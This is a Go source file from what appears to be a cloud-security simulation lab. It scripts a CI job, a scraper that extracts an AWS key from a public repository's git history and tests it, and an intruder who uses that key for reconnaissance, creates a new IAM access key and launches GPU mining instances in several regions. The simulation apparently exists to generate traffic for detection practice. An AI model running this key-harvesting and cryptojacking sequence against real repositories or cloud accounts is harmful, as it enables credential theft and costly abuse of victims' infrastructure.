package actors

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"

	"github.com/sakimori/sakimori/sim/aws/client"
)

// Keys in the Repo's traffic: the CI system using its deploy key as it
// should, a scraper that finds the key in the public repository's history
// and checks it works (EleKtra-Leak found keys within minutes), and the
// intruder who later uses it from another address, starting miners in
// several regions as that campaign did.
func init() {
	labkit.RegisterScript("leak-ci", leakCI)
	labkit.RegisterScript("leak-scout", leakScout)
	labkit.RegisterScript("leak-intruder", leakIntruder)
}

// minerRegions are where the intruder starts miners, and how many: the
// home region first, then two a responder looking only there misses.
var minerRegions = []struct {
	region string
	count  int
}{{"us-east-1", 4}, {"ap-northeast-1", 2}, {"eu-north-1", 2}}

// leakCI uploads a build every minute with the CI key from its own address.
func leakCI(ctx context.Context, env labkit.Env) error {
	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 command/s3.cp",
		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
	for n := 1; labkit.Sleep(ctx, time.Minute); n++ {
		body := []byte(fmt.Sprintf("build %d of acme-web\n", n))
		if res, err := c.S3("PUT", fmt.Sprintf("/acme-build-artifacts/builds/acme-web-%04d.tar.gz", n), body); err != nil || !res.OK() {
			labkit.Logger.Info("ci: upload failed", "result", res.String(), "err", err)
		}
	}
	return nil
}

func leakScout(ctx context.Context, env labkit.Env) error {
	done := false // a scraper checks a key once and moves on
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 2*time.Second), 15*time.Minute, func() error {
		if done {
			return nil
		}
		c, err := scrapedClient(env, "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity")
		if err != nil {
			return err
		}
		if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
			return err
		}
		c.UserAgent = "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/s3.ls"
		_, err = c.S3("GET", "/", nil)
		done = err == nil
		return err
	})
	return nil
}

// leakIntruder starts the miners once, region by region: a run that fails
// part-way (the cloud still starting) resumes at the region it stopped
// in, so the trail's count of instances is the story's.
func leakIntruder(ctx context.Context, env labkit.Env) error {
	next := 0
	pause := func() { labkit.Sleep(ctx, 1500*time.Millisecond) } // a tool's pace, not all in one second
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 15*time.Minute, func() error {
		if next == len(minerRegions) {
			return nil
		}
		c, err := scrapedClient(env, "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 lang/python#3.11.2")
		if err != nil {
			return err
		}
		if next == 0 {
			if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
				return err
			}
			for _, call := range []func(){
				func() { _, _ = c.Query("ec2", "DescribeRegions", nil) },
				func() { _, _ = c.S3("GET", "/", nil) },
				func() { _, _ = c.S3("GET", "/acme-build-artifacts?list-type=2", nil) },
				func() { _, _ = c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ci-deployer"}}) },
			} {
				pause()
				call()
			}
		}
		for ; next < len(minerRegions); next++ {
			pause()
			m := minerRegions[next]
			c.Region = m.region
			n := fmt.Sprint(m.count)
			res, err := c.Query("ec2", "RunInstances", url.Values{"ImageId": {"ami-0b4c7e2f9d1a3e5c7"}, "InstanceType": {"p3.16xlarge"},
				"MinCount": {n}, "MaxCount": {n}})
			if err != nil {
				return err
			}
			if !res.OK() {
				return fmt.Errorf("RunInstances in %s: %s", m.region, res.String())
			}
		}
		return nil
	})
	return nil
}

// scrapedClient is a client holding the key found in the public
// repository's history, as a scraper reads it over git's dumb HTTP.
func scrapedClient(env labkit.Env, agent string) (*client.Client, error) {
	hc := &http.Client{Timeout: 10 * time.Second}
	repo := env("GIT") + env("REPO")
	refs, err := fetchText(hc, repo+"/info/refs")
	if err != nil {
		return nil, err
	}
	head, _, _ := strings.Cut(refs, "\t")
	creds, err := client.KeysInHistory(head, func(path string) ([]byte, error) {
		b, err := fetchText(hc, repo+"/"+path)
		return []byte(b), err
	})
	if err != nil {
		return nil, err
	}
	return &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: agent}, nil
}

func fetchText(hc *http.Client, u string) (string, error) {
	resp, err := hc.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%s: %s", u, resp.Status)
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return string(b), err
}
